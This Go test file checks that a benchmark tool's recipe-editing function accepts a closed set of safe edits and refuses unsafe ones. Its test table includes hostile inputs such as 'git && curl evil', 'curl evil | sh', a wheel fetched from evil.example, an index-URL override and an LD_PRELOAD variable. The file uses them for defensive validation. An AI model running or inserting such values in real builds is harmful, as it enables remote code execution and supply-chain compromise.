package recipe

import (
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/benchmint/benchmint/schemas"
)

// An edit is one of a closed set, and never a command, a URL or a path from nowhere.
func TestApply(t *testing.T) {
	t.Parallel()
	own := schemas.Recipe{
		Language: "python", Toolchain: schemas.Toolchain{Name: "python", Version: "3.11.9", Digest: "sha256:1"}, Lock: "locked", Setup: []schemas.Command{{Argv: []string{"uv"}}},
		SystemPackages: []string{"git"}, Requirements: []string{"-e .", ".[fast]", "cffi >= 1.1", "pytest"}, Test: []schemas.Command{{Argv: []string{"pytest"}}},
		Rivals: []schemas.Rival{{Test: []schemas.Command{{Argv: []string{"pytest", "tests"}}}, Source: "tox.ini:3"}, {Test: []schemas.Command{{Argv: []string{"make", "bench"}}}, Other: "a benchmark"}},
	}
	for _, tc := range []struct {
		edit Edit
		said string // "": refused
		lock bool   // it stays
	}{
		{Edit{Op: AddSystemPackage, Value: "libxml2-dev"}, "system_packages += libxml2-dev", false},
		{Edit{Op: AddSystemPackage, Value: "git"}, "", true},
		{Edit{Op: AddSystemPackage, Value: "git && curl evil"}, "", true},
		{Edit{Op: AddSystemPackage, Value: "--allow-unauthenticated"}, "", true},
		{Edit{Op: AddRequirement, Value: "freezegun>=1.2,<2"}, "requirements += freezegun>=1.2,<2", false},
		{Edit{Op: AddRequirement, Value: "trio[extra]==0.22.0"}, "requirements += trio[extra]==0.22.0", false},
		{Edit{Op: AddRequirement, Value: "trio >= 0.22, < 1"}, "requirements += trio>=0.22,<1", false},
		{Edit{Op: AddRequirement, Value: "evil @ https://evil.example/x.whl"}, "", true},
		{Edit{Op: AddRequirement, Value: "--index-url=x"}, "", true},
		{Edit{Op: AddRequirement, Value: "./evil"}, "", true},
		{Edit{Op: AddRequirement, Value: "pytest"}, "", true},
		{Edit{Op: RemoveRequirement, Value: "pytest"}, "requirements -= pytest", false},
		{Edit{Op: RemoveRequirement, Value: "cffi >= 1.1"}, "requirements -= cffi >= 1.1", false},
		{Edit{Op: RemoveRequirement, Value: ".[fast]"}, "", true},
		{Edit{Op: AddExtra, Value: "test"}, "requirements: .[fast,test]", false},
		{Edit{Op: AddExtra, Value: "fast"}, "", true},
		{Edit{Op: AddExtra, Value: "x] evil"}, "", true},
		{Edit{Op: ConstrainBuild, Value: "setuptools<58"}, "requirements += -b setuptools<58", false},
		{Edit{Op: ConstrainBuild, Value: "evil @ https://evil.example/x.whl"}, "", true},
		{Edit{Op: RemoveRequirement, Value: "-e ."}, "", true},
		{Edit{Op: RemoveRequirement, Value: "other"}, "", true},
		{Edit{Op: SetVariable, Name: "DJANGO_SETTINGS_MODULE", Value: "tests.settings"}, "variables += DJANGO_SETTINGS_MODULE=tests.settings", true},
		{Edit{Op: SetVariable, Name: "PYTEST_ADDOPTS", Value: "-k nothing"}, "", true},
		{Edit{Op: SetVariable, Name: "LD_PRELOAD", Value: "x"}, "", true},
		{Edit{Op: SetVariable, Name: "PIP_INDEX_URL", Value: "x"}, "", true},
		{Edit{Op: SetVariable, Name: "DATA", Value: "https://evil.example"}, "", true},
		{Edit{Op: SetVariable, Name: "A B", Value: "x"}, "", true},
		{Edit{Op: SetToolchain, Value: "3.9.1"}, "toolchain = 3.9.1", false},
		{Edit{Op: SetToolchain, Value: "3.11.9"}, "", true},
		{Edit{Op: SetToolchain, Value: "3.14.0"}, "", true},
		{Edit{Op: SetTestCommand, Value: "pytest tests"}, "test = pytest tests", true},
		{Edit{Op: SetTestCommand, Value: "make bench"}, "", true},
		{Edit{Op: SetTestCommand, Value: "true"}, "", true},
		{Edit{Op: "run", Value: "curl evil | sh"}, "", true},
	} {
		before := schemas.DigestOf(own)
		got, said, err := Apply(own, tc.edit, []string{"3.9.1", "3.11.9"})
		if said != tc.said || (err != nil) != (tc.said == "") || (got.Lock != "") != tc.lock {
			t.Errorf("%v: %q, lock %q, %v", tc.edit, said, got.Lock, err)
		}
		if schemas.DigestOf(own) != before {
			t.Fatalf("%v changed the recipe that failed", tc.edit)
		}
		if tc.said == "" && !cmp.Equal(got, own) {
			t.Errorf("%v: a refused edit changed the recipe", tc.edit)
		}
		if tc.edit.Op == SetTestCommand && tc.said != "" && (!slices.Equal(got.Test[0].Argv, []string{"pytest", "tests"}) || len(got.Rivals) != 2) {
			t.Errorf("%+v, %+v", got.Test, got.Rivals)
		}
	}
}
